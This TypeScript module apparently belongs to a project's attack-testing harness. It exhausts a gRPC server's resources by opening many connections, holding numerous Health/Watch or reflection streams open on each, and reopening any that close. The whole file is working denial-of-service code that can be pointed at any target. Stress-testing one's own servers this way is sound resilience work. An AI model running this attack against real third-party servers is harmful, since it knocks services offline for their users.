// Public streams that are opened and then held in silence: Health/Watch, or server reflection. Those that end are opened again.

import { create, toBinary } from '@bufbuild/protobuf';
import { HealthCheckRequestSchema } from '../../../src/gen/grpc/health/v1/health_pb.ts';
import { ServerReflectionRequestSchema } from '../../../src/gen/grpc/reflection/v1/reflection_pb.ts';
import { begin, data } from '../../http2-server/raw-frames.ts';
import { frame } from '../../support/rpc-clients.ts';
import { type Attack, keepOpen, wait } from '../attacker/attack.ts';
import { CONTENT_TYPES, callBlock, ends, finish, openPeer, type Protocol } from '../attacker/http2-peer.ts';
import { tally } from '../attacker/tally.ts';

const STREAMS = {
  watch: {
    path: '/grpc.health.v1.Health/Watch',
    message: toBinary(HealthCheckRequestSchema, create(HealthCheckRequestSchema)),
    isWhole: true,
  },
  reflection: {
    path: '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo',
    message: toBinary(
      ServerReflectionRequestSchema,
      create(ServerReflectionRequestSchema, { messageRequest: { case: 'listServices', value: '' } }),
    ),
    isWhole: false,
  },
} as const;

/** Options: `stream` (`watch` or `reflection`), `protocol` (`grpc` or `grpc-web`), `connections`, `streams` on each. */
export const attack: Attack = async ({ target, options }) => {
  const { connections, streams, stream, protocol } = options;
  const { path, message, isWhole } = STREAMS[stream as keyof typeof STREAMS];
  const block = callBlock(target, path, CONTENT_TYPES[protocol as Protocol]);
  const body = frame(message);
  return (until) =>
    keepOpen(Number(connections), until, async () => {
      let missing = Number(streams);
      const peer = await openPeer(target, {
        onFrame: (received) => {
          if (ends(received)) missing++;
        },
      });
      while (!until.aborted && !peer.isClosed()) {
        tally('streams opened', missing);
        for (; missing > 0; missing--) {
          const id = peer.nextId();
          peer.send(begin(id, block), isWhole ? finish(id, body) : data(id, body));
        }
        await Promise.race([wait(250, until), peer.closed]);
      }
    });
};
